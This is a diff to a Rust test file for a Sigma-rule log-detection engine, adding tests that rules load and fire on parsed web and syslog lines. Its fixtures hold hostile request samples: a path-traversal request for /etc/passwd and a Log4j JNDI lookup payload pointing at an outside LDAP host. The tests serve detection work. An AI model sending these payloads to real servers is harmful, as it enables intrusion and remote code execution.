@@ -3,7 +3,7 @@
 //! positions, and every detection's condition parses against the rule's
 //! own selection names. (Matching comes with the rest of the engine.)
 
-use canhgac::detect::sigma::{condition, yaml};
+use canhgac::detect::sigma::{SigmaRuleSet, condition, yaml};
 
 fn files(dir: &std::path::Path, out: &mut Vec<std::path::PathBuf>) {
     for e in std::fs::read_dir(dir).unwrap().flatten() {
@@ -78,4 +78,79 @@ fn public_rules_read_and_their_conditions_parse() {
     assert_eq!(list.len(), 295);
     assert!(conditions >= 295, "{conditions} conditions");
     assert!(bad.is_empty(), "{}", bad.join("\n"));
+}
+
+#[test]
+fn public_rules_load_and_the_rest_say_why() {
+    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/conformance/sigma");
+    let (set, report) = SigmaRuleSet::load(&[root.as_path()]);
+    let loaded: usize = report.files.iter().map(|f| f.1).sum();
+    let skipped: usize = report.files.iter().map(|f| f.2).sum();
+    println!(
+        "{} files, {loaded} rules loaded, {skipped} skipped",
+        report.files.len()
+    );
+    for d in &report.diagnostics {
+        println!("{d}");
+    }
+    assert_eq!(report.files.len(), 295);
+    assert_eq!(loaded, set.rules.len());
+    // every diagnostic names its file, line and column
+    assert!(
+        report.diagnostics.iter().all(|d| d.line > 0 && d.col > 0),
+        "{:?}",
+        report.diagnostics
+    );
+    // held at today's figure
+    assert_eq!(loaded, 295, "{loaded} of 295 loaded");
+}
+
+/// Public rules fire on lines read by canhgac's parsers: the W3C field
+/// names, the keyword search on the raw line and the logsource mapping
+/// work together.
+#[test]
+fn public_rules_fire_on_parsed_lines() {
+    use canhgac::logs::parse::parse;
+    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/conformance/sigma");
+    let (set, _) = SigmaRuleSet::load(&[root.as_path()]);
+    let fired = |line: &str| -> Vec<String> {
+        let p = parse(line);
+        let mut t: Vec<String> = set
+            .matching(p.parser, &p.fields, line)
+            .iter()
+            .map(|r| r.title.clone())
+            .collect();
+        t.sort();
+        t
+    };
+    let t = fired(
+        r#"203.0.113.9 - - [26/Nov/2026:10:00:04 +0700] "GET /static/../../../../etc/passwd HTTP/1.1" 400 0 "-" "curl/8""#,
+    );
+    assert!(
+        t.iter()
+            .any(|x| x == "Path Traversal Exploitation Attempts"),
+        "{t:?}"
+    );
+    let t = fired(
+        r#"203.0.113.9 - - [26/Nov/2026:10:00:04 +0700] "GET /?x=${jndi:ldap://198.51.100.1/a} HTTP/1.1" 200 5 "-" "Mozilla""#,
+    );
+    assert!(
+        t.iter().any(|x| x.starts_with("Log4j RCE CVE-2021-44228")),
+        "{t:?}"
+    );
+    // a harmless request fires nothing
+    let t = fired(
+        r#"203.0.113.9 - - [26/Nov/2026:10:00:04 +0700] "GET /tin-tuc/index.html HTTP/1.1" 200 5120 "-" "Mozilla/5.0""#,
+    );
+    assert!(t.is_empty(), "{t:?}");
+    // syslog keyword rules, on the raw line
+    let t = fired("Nov 26 10:00:01 gw nginx[1]: *** stack smashing detected ***: terminated");
+    assert!(t.iter().any(|x| x == "Buffer Overflow Attempts"), "{t:?}");
+    // a web rule does not fire on an sshd line with the same words
+    let t = fired("Nov 26 10:00:01 gw sshd[1]: Invalid user ../../etc/passwd from 198.51.100.7");
+    assert!(
+        !t.iter()
+            .any(|x| x == "Path Traversal Exploitation Attempts"),
+        "{t:?}"
+    );
 }
